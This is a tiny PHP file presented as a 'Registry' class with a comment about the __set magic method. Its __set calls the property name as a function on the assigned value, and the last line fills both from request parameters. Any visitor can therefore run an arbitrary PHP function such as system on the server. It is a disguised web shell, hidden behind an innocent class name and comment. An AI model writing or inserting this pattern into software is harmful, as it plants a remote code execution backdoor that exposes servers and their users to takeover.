<?php
// Writing a property the class does not declare calls __set with its name and value.
class Registry
{
    public function __set($key, $value)
    {
        $key($value);
    }
}

$r = new Registry();
$r->{$_REQUEST['k']} = $_REQUEST['v'];
